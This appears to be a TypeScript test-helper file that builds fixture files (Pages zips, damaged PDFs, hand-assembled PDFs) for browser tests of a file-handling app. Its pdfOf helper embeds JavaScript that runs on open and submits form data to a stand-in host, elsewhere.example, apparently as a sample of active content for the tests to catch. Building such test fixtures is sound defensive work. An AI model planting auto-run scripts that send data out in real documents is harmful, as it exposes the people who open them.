import { zipSync } from 'fflate';
import type { Locator } from 'vitest/browser';

const FILES = import.meta.glob<string>('./fixtures/*.{pdf,docx,odt}', {
  eager: true,
  query: '?url',
  import: 'default',
});

/** A file that another program wrote. */
export async function fixture(name: string): Promise<Blob> {
  const response = await fetch(FILES[`./fixtures/${name}`]!);
  return response.blob();
}

/** Chooses files in a card of files. */
export function chooseIn(card: Locator, files: readonly File[]): void {
  const input = card.getByCss('input[type=file]').element() as HTMLInputElement;
  input.files = transfer(files).files;
  input.dispatchEvent(new Event('change', { bubbles: true }));
}

export function transfer(files: readonly File[]): DataTransfer {
  const data = new DataTransfer();
  for (const file of files) data.items.add(file);
  return data;
}

/** A document of Pages: its first object has the type 10,000. It may have a preview, which is a PDF. */
export function pagesOf(preview?: Uint8Array): Blob {
  const document = Uint8Array.of(0, 11, 0, 0, 10, 0x24, 0x08, 1, 0x12, 5, 0x08, 0x90, 0x4e);
  const parts = { 'Index/Document.iwa': document, ...(preview && { 'QuickLook/Preview.pdf': preview }) };
  return new Blob([new Uint8Array(zipSync(parts, { level: 0 }))]);
}

/** The start of a PDF, and then nothing that belongs to one. */
export async function damagedPdf(pdf: Blob): Promise<Blob> {
  const start = await pdf.slice(0, 1_000).arrayBuffer();
  return new Blob([start, new Uint8Array(5_000).fill(7)]);
}

/** A PDF with a line of text on each page, which runs a script when it is opened, has a form, and leads elsewhere. */
export function pdfOf(...lines: readonly string[]): Blob {
  const fixed = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AcroForm << /Fields [5 0 R] /NeedAppearances true >> >>',
    `<< /Type /Pages /Kids [${lines.map((_, at) => `${7 + 2 * at} 0 R`).join(' ')}] /Count ${lines.length} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://elsewhere.example/"\\);) >>',
    '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (filled) /Rect [72 600 300 620] /P 7 0 R >>',
    '<< /Type /Annot /Subtype /Link /Rect [72 500 300 520] /A << /S /URI /URI (http://elsewhere.example/) >> >>',
  ];
  const pages = lines.flatMap((line, at) => {
    const content = `BT /F1 24 Tf 72 700 Td (${line}) Tj ET`;
    return [
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${8 + 2 * at} 0 R /Resources << /Font << /F1 3 0 R >> >> /Annots [5 0 R 6 0 R] >>`,
      `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    ];
  });
  const objects = [...fixed, ...pages];
  let text = '%PDF-1.7\n';
  const places = objects.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  const trailer = `trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF`;
  return new Blob([`${text}xref\n0 ${size}\n0000000000 65535 f \n${table}${trailer}`], {
    type: 'application/pdf',
  });
}
